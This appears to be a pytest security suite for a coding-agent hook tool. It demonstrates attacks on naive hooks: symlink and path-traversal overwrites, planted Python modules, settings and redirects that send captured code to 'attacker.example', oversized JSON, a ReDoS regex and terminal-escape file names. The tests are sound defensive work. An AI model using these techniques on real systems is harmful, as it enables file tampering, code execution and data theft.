"""Each attack, first on a naive version of the same step, where it works, then on ours."""

import json
import os
import re
import resource
import socket
import stat
import subprocess
import sys
from pathlib import Path
from typing import Any

import httpx
import pytest

from lib.capture import identity
from lib.capture.payload import capture
from lib.privacy.redaction import redact
from lib.registration.hook_command import command
from lib.spool import inbox
from tests.support.bundle import INTERPRETER, ROOT, Bundle, payload, wait_for, write_payload
from tests.support.outpost import Outpost
from tests.support.service_double import Fault, ServiceDouble

VICTIM = "what was there\n"
HOSTILE_ID = "../../../victim"


@pytest.fixture
def victim(tmp_path: Path) -> Path:
    """A file of the user's that no attack may change."""
    path = tmp_path / "victim"
    path.write_text(VICTIM)
    return path


def naive(script: str, *arguments: object, data: bytes = b"", **environ: str) -> Any:
    """Run `script` as somebody would write a hook."""
    return subprocess.run(
        [INTERPRETER, "-c", script, *map(str, arguments)],
        input=data, env={"PATH": os.environ["PATH"], **environ}, capture_output=True, check=False,
    )  # fmt: skip


def event(path: str = "/p/a.py", use: str = "1", **changes: Any) -> dict[str, Any]:
    return capture({**write_payload(path, "x = 1\n", use), **changes}, 1)  # type: ignore[return-value]


def test_a_cache_that_is_a_link(bundle: Bundle, tmp_path: Path) -> None:
    """Others let the spool lead to a directory of theirs, or of the user's."""
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    bundle.spool.parent.mkdir(parents=True)
    bundle.spool.symlink_to(elsewhere)
    script = "import sys; open(sys.argv[1] + '/pending_1.json', 'w').write(sys.stdin.read())"
    naive(script, bundle.spool, data=b"{}")
    assert [path.name for path in elsewhere.iterdir()] == ["pending_1.json"]
    (elsewhere / "pending_1.json").unlink()
    bundle.post(payload("01-write-create-js-marker.post"))
    assert list(elsewhere.iterdir()) == []


def test_a_file_in_the_cache_that_is_a_link(tmp_path: Path, victim: Path) -> None:
    """Somebody who knows an event's name has put a link of that name there."""
    directory = tmp_path / "spool"
    directory.mkdir(mode=0o700)
    name = inbox.file_name(str(event()["event_id"]))
    (directory / name).symlink_to(victim)
    naive("import sys; open(sys.argv[1], 'w').write('{}')", directory / name)
    assert victim.read_text() == "{}"
    victim.write_text(VICTIM)
    inbox.commit(str(directory), event(), 1)
    Outpost(directory).run()
    assert victim.read_text() == VICTIM


def test_a_traversal_in_an_id(bundle: Bundle, victim: Path) -> None:
    """Sessions, tool uses and markers are somebody else's text."""
    bundle.spool.mkdir(parents=True, mode=0o700)
    (bundle.spool / "pending_").mkdir()
    target = os.path.relpath(victim, bundle.spool / "pending_")
    naive("import sys; open(f'{sys.argv[1]}/pending_/{sys.argv[2]}', 'w')", bundle.spool, target)
    assert victim.read_text() == ""
    victim.write_text(VICTIM)
    (bundle.spool / "pending_").rmdir()
    marked = f"# pattern-id: {HOSTILE_ID}\nx = 1\n"
    changed = {"session_id": target, "tool_use_id": target, "agent_id": target, "cwd": target}
    bundle.post({**write_payload("/p/a.py", marked, target), **changed})
    assert all(
        re.fullmatch("pending_[0-9a-f]{32}-[0-9a-f]{8}.json", path.name)
        for path in bundle.pending()
    )
    bundle.wait_delivered()
    (found,) = bundle.log()
    assert identity.is_valid_id(found["pattern_id"])
    assert found["pattern_id"].startswith("python-code-")
    assert victim.read_text() == VICTIM


def test_an_umask_that_lets_everybody_in(bundle: Bundle, tmp_path: Path) -> None:
    before = os.umask(0)
    try:
        naive("import sys; open(sys.argv[1], 'w').write('code')", tmp_path / "naive")
        bundle.post(payload("01-write-create-js-marker.post"))
    finally:
        os.umask(before)
    assert stat.S_IMODE((tmp_path / "naive").stat().st_mode) == 0o666
    bundle.wait_delivered()
    modes = {stat.S_IMODE(path.stat().st_mode) for path in bundle.spool.rglob("*")}
    assert modes == {0o600}


PLANTED = ("json", "re", "sqlite3", "rich", "httpx", "lib", "sitecustomize", "usercustomize")


def test_modules_that_a_repository_brings(bundle: Bundle, tmp_path: Path) -> None:
    """A checkout has a json.py, and its settings put it on PYTHONPATH."""
    ran = tmp_path / "ran"
    planted = tmp_path / "repository"
    planted.mkdir()
    for name in PLANTED:
        (planted / f"{name}.py").write_text(f"open({str(ran)!r}, 'a').write(__name__ + '\\n')\n")
    environ = {"PYTHONPATH": str(planted), "PYTHONSTARTUP": str(planted / "json.py"),
               "PYTHONHOME": str(planted), "PYTHONUSERBASE": str(planted)}  # fmt: skip
    naive("import json", PYTHONPATH=str(planted))
    assert "json" in ran.read_text()
    ran.unlink()
    bundle.environ |= environ
    data = json.dumps(payload("01-write-create-js-marker.post")).encode()
    for script in ("pre_tool_use.py", "post_tool_use.py"):
        done = subprocess.run(
            ["/bin/sh", "-c", command(str(ROOT), INTERPRETER, script)],
            input=data, cwd=planted, env=bundle.environ, capture_output=True, check=False,
        )  # fmt: skip
        assert (done.returncode, done.stdout, done.stderr) == (0, b"", b"")
    bundle.wait_delivered()
    for verb in ("status", "log", "stats", "doctor"):
        subprocess.run(
            [str(ROOT / "bin" / "pattern-tracker"), verb],
            cwd=planted, env=bundle.environ, capture_output=True, check=False,
        )  # fmt: skip
    del bundle.environ["PYTHONHOME"]
    assert len(bundle.log()) == 1
    assert not ran.exists()


@pytest.fixture
def names_lead_here(monkeypatch: pytest.MonkeyPatch) -> None:
    """Any host's name resolves to this machine, so that an attacker's can be on loopback."""
    real = socket.getaddrinfo

    def resolve(host: Any, *rest: Any, **named: Any) -> Any:
        return real("127.0.0.1" if host == "attacker.example" else host, *rest, **named)

    monkeypatch.setattr(socket, "getaddrinfo", resolve)


@pytest.mark.usefixtures("names_lead_here")
def test_an_environment_that_names_another_service(tmp_path: Path, server: ServiceDouble) -> None:
    url = server.url.replace("127.0.0.1", "attacker.example")
    assert httpx.post(f"{url}/api/pattern-traceability/lineage/track", json={}).status_code == 422
    assert len(server.requests) == 1
    outpost = Outpost(tmp_path / "spool", INTELLIGENCE_SERVICE_URL=url)
    outpost.write("/p/a.py", "x = 1\n")
    assert not outpost.flush()
    assert len(server.requests) == 1
    assert "was not approved" in outpost.section("delivery")["reason"]
    assert len(outpost.pending()) == 1


@pytest.mark.client
@pytest.mark.usefixtures("client")
def test_settings_of_a_repository_that_name_another_service(bundle: Bundle, tmp_path: Path) -> None:
    """Variables of a project's settings reach every hook: a naive one would believe them."""
    work = tmp_path / "work"
    (work / ".claude").mkdir(parents=True)
    url = "https://attacker.example"
    evil = {"INTELLIGENCE_SERVICE_URL": url, "PYTHONPATH": "."}
    (work / ".claude" / "settings.json").write_text(json.dumps({"env": evil}))
    (work / ".env").write_text("".join(f"{name}={value}\n" for name, value in evil.items()))
    seen = tmp_path / "seen"
    tell = {"type": "command", "command": f'printf %s "$INTELLIGENCE_SERVICE_URL" >{seen}'}
    ours = {"type": "command", "command": command(str(ROOT), INTERPRETER, "post_tool_use.py")}
    settings = {"hooks": {"PostToolUse": [{"matcher": "Write", "hooks": [tell, ours]}]}}
    (bundle.home / ".claude").mkdir()
    (bundle.home / ".claude" / "settings.json").write_text(json.dumps(settings))
    call = ("Write", {"file_path": str(work / "a.py"), "content": "x = 1\n"})
    assert bundle.claude([[call]], work).returncode == 0
    assert seen.read_text() == url
    bundle.wait_flushed()
    status = bundle.json("status")
    assert status["pending"] == 1
    assert f"{url}:443 was not approved" in status["service"]["problem"]


def test_a_proxy_that_the_environment_names(
    outpost: Outpost, server: ServiceDouble, monkeypatch: pytest.MonkeyPatch
) -> None:
    with ServiceDouble(rate_limit=None) as proxy:
        for name in ("HTTP_PROXY", "http_proxy", "ALL_PROXY", "all_proxy", "HTTPS_PROXY"):
            monkeypatch.setenv(name, proxy.url)
        for name in ("NO_PROXY", "no_proxy"):
            monkeypatch.delenv(name, raising=False)
        httpx.post(f"{server.url}/api/pattern-traceability/lineage/track", json={})
        assert (len(proxy.requests), len(server.requests)) == (1, 0)
        outpost.write("/p/a.py", "x = 1\n")
        assert outpost.flush()
        assert (len(proxy.requests), len(server.requests)) == (1, 1)


def test_a_redirect_to_another_host(outpost: Outpost, server: ServiceDouble) -> None:
    with ServiceDouble(rate_limit=None) as other:
        server.faults.set(Fault.STATUS, status=307, headers={"Location": other.url + "/x"})
        httpx.post(server.url, content=b"code", follow_redirects=True)
        assert [record.request.body for record in other.requests] == [b"code"]
        outpost.write("/p/a.py", "x = 1\n")
        assert not outpost.flush()
        assert len(other.requests) == 1


PEAK = """
import resource, subprocess, sys
done = subprocess.run(sys.argv[1:], stdin=0)
print(done.returncode, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)
"""
MEGABYTE = 1024 if sys.platform != "darwin" else 1024 * 1024


def peak(hook: list[str], environ: dict[str, str]) -> tuple[int, float]:
    """The exit code of `hook` when it is fed 100 MB, and the megabytes that it held at most."""
    process = subprocess.Popen(
        [INTERPRETER, "-I", "-S", "-c", PEAK, *hook],
        stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, env=environ,
    )  # fmt: skip
    assert process.stdin
    assert process.stdout
    process.stdin.write(
        b'{"session_id":"s","tool_name":"Write","tool_input":{"file_path":"/p/a.py","content":"'
    )
    for _ in range(100):
        process.stdin.write(b"x" * 1_000_000)
    process.stdin.write(b'"},"tool_use_id":"1"}')
    process.stdin.close()
    code, size = map(int, process.stdout.read().split())
    process.wait()
    return code, size / MEGABYTE


def test_100_mb_on_standard_input(bundle: Bundle) -> None:
    read_it = [INTERPRETER, "-I", "-S", "-c", "import json, sys; json.load(sys.stdin)"]
    assert peak(read_it, bundle.environ)[1] > 100
    code, megabytes = peak(
        [INTERPRETER, "-I", "-S", str(ROOT / "hooks" / "post_tool_use.py")], bundle.environ
    )
    assert code == 0
    assert megabytes <= 32
    bundle.wait_delivered()
    assert bundle.log()[0]["reason"] == "a payload of 100000106 bytes, too large to capture"


@pytest.mark.parametrize("opening", ["[", '{"a":'])
def test_100_000_levels(bundle: Bundle, opening: str) -> None:
    data = opening.encode() * 100_000
    done = naive("import json, sys; json.load(sys.stdin)", data=data)
    assert done.returncode != 0
    bundle.post(data)
    deep = json.dumps(write_payload("/p/a.py", "x = 1\n", "1")).encode()
    bundle.post(deep[:-1] + b', "more": ' + data)
    wait_for(lambda: bundle.json("status")["skipped"] == {"unreadable": 2})


def test_numbers_of_a_million_digits(bundle: Bundle) -> None:
    """Python's own limit holds: the time of a conversion grows with the square of the digits."""
    done = naive("import json, sys; json.load(sys.stdin)", data=b"9" * 1_000_000)
    assert b"Exceeds the limit" in done.stderr
    deep = json.dumps(write_payload("/p/a.py", "x = 1\n", "1")).encode()
    bundle.post(deep[:-1] + b', "more": ' + b"9" * 1_000_000 + b"}")
    assert bundle.json("status")["skipped"] == {"unreadable": 1}


def test_a_text_on_which_expressions_blow_up() -> None:
    text = "password=" + "a" * 30 + "!"
    script = "import re, sys; re.search(r'password=(\\w+\\s?)+$', sys.argv[1])"
    done = subprocess.run(
        [INTERPRETER, "-I", "-c", script, text],
        preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_CPU, (1, 1)), check=False,
    )  # fmt: skip
    assert done.returncode < 0
    ours = f"import sys; sys.path.insert(0, {str(ROOT)!r})\n"
    ours += "from lib.privacy.redaction import redact\n"
    done = subprocess.run(
        [INTERPRETER, "-I", "-c", f"{ours}redact(sys.argv[1] * 3000)", text],
        preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_CPU, (1, 1)), check=False,
    )  # fmt: skip
    assert done.returncode == 0
    assert redact(text)[0] != ""


@pytest.mark.parametrize("sequence", ["\x1b[2J\x1b]0;owned\x07", "\u202e", "\x9b31m", "a\rb"])
def test_a_file_name_that_drives_the_terminal(bundle: Bundle, sequence: str) -> None:
    path = f"/p/{sequence}.py"
    done = naive("import sys; print(sys.argv[1])", path, LANG="C.UTF-8", PYTHONUTF8="1")
    assert sequence.encode() in done.stdout
    code = f"x = '{sequence}'\n".replace("\r", "\x1b")
    bundle.post(write_payload(path, code, "1"))
    bundle.post(write_payload(path, f"{code}y = 1\n", "2", code))
    bundle.wait_delivered()
    for verb in (["log"], ["status"], ["stats"], ["lineage", path, "--diff"]):
        done = bundle.command(*verb)
        assert done.returncode == 0
        assert all(c.isprintable() or c == "\n" for c in done.stdout), verb
